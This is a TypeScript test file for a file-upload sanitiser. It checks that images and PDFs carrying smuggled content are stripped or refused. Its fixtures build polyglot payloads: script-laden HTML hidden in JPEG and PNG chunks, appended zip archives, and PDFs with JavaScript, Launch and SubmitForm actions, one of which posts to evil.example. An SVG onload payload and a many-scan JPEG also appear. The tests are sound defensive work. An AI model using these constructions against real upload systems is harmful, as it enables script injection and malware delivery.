import { deflateRawSync } from "node:zlib";
import { expect, test } from "vitest";
import { cleanFile } from "./cleanFile.ts";
import type { FileKind } from "./kinds.ts";
import { jpeg, jpegWith, pagePdf, png, pngChunk } from "./testing/samples.ts";

const taken = { kinds: ["pdf", "jpeg", "png"], most: 8 * 1024 * 1024 } as const;
const page = "<html><script>alert(document.cookie)</script></html>";
const script = Buffer.from(`/*${page}*/=1;alert(1)//`);
/** The end of an archive with one program in it: archives are read from their end, whatever comes before. */
const archive = Buffer.concat([
  Buffer.from("PK\x03\x04"),
  deflateRawSync("a program"),
  Buffer.from("PK\x05\x06archive-end"),
]);
const starts: Readonly<Record<FileKind, Buffer>> = {
  pdf: Buffer.from("%PDF-"),
  jpeg: Buffer.from("ffd8ff", "hex"),
  png: Buffer.from("89504e47", "hex"),
};

test.each<[string, Buffer]>([
  ["a photograph with a web page behind it", Buffer.concat([jpeg, Buffer.from(page)])],
  ["a photograph with a web page as its comment", jpegWith([0xfe, Buffer.from(page)])],
  ["a photograph with a script as its maker's word", jpegWith([0xe5, script])],
  ["a photograph with an archive behind it", Buffer.concat([jpeg, archive])],
  [
    "a photograph with a PDF behind it",
    Buffer.concat([jpeg, pagePdf({ catalogue: "/OpenAction<</S/JavaScript/JS(alert)>>" })]),
  ],
  ["a picture with a web page as a text", png({ chunks: [pngChunk("tEXt", Buffer.from(`Comment\0${page}`))] })],
  ["a picture with a script in a part that nobody knows", png({ chunks: [pngChunk("prIv", script)] })],
  ["a picture with an archive behind it", Buffer.concat([png(), archive])],
  ["a PDF with a web page before it", Buffer.concat([Buffer.from(page), pagePdf()])],
  ["a PDF with an archive behind it", Buffer.concat([pagePdf(), archive])],
  [
    "a PDF with a web page as a comment",
    Buffer.from(pagePdf().toString("latin1").replace("%PDF-1.7\n", `%PDF-1.7\n%${page}\n`), "latin1"),
  ],
  ["a PDF that runs a script when opened", pagePdf({ catalogue: "/OpenAction<</S/JavaScript/JS(alert\\(1\\))>>" })],
  ["a PDF that starts a program", pagePdf({ catalogue: "/AA<</WC<</S/Launch/F(archive-end)>>>>" })],
  ["a PDF that sends a form", pagePdf({ page: "/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>" })],
  [
    "a PDF with a file in it",
    pagePdf(
      { catalogue: "/Names<</EmbeddedFiles<</Names[(x) 6 0 R]>>>>" },
      { entries: "/Type/EmbeddedFile", data: archive },
    ),
  ],
  [
    "a PDF with a web form that runs scripts",
    pagePdf({ catalogue: "/AcroForm<</XFA 6 0 R>>" }, { entries: "", data: Buffer.from(page) }),
  ],
])("%s is kept as one thing, or not at all", async (_, bytes) => {
  const kept = await cleanFile(bytes, taken).catch((error: { code: string }) => error.code);
  if (typeof kept === "string") {
    expect(kept).toMatch(/^attachments\/(damaged|unreadable|kind-unknown)$/);
    return;
  }
  expect(kept.bytes.subarray(0, starts[kept.kind].length).equals(starts[kept.kind])).toBe(true);
  const text = kept.bytes.toString("latin1");
  expect(text).not.toMatch(
    /<script|<html|alert|archive-end|evil\.example|JavaScript|Launch|SubmitForm|XFA|EmbeddedFile/,
  );
});

test("an archive, a drawing, a document with macros and a web page are refused, whatever they are called", async () => {
  for (const bytes of [
    archive,
    script,
    Buffer.from(page),
    Buffer.from("<svg onload=alert(1)>"),
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.from("GIF89a"),
    Buffer.from("RIFF....WEBP"),
  ])
    await expect(cleanFile(bytes, taken)).rejects.toMatchObject({ code: "attachments/kind-unknown" });
});

test("a photograph of thousands of passes, each of which a viewer draws, is refused", async () => {
  const scanAt = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  const [head, scan] = [jpeg.subarray(0, scanAt), jpeg.subarray(scanAt, jpeg.length - 2)];
  const passes = (count: number) =>
    Buffer.concat([head, ...Array.from({ length: count }, () => scan), Buffer.from([0xff, 0xd9])]);
  expect((await cleanFile(passes(12), taken)).kind).toBe("jpeg");
  await expect(cleanFile(passes(5000), taken)).rejects.toMatchObject({ code: "attachments/too-complex" });
});
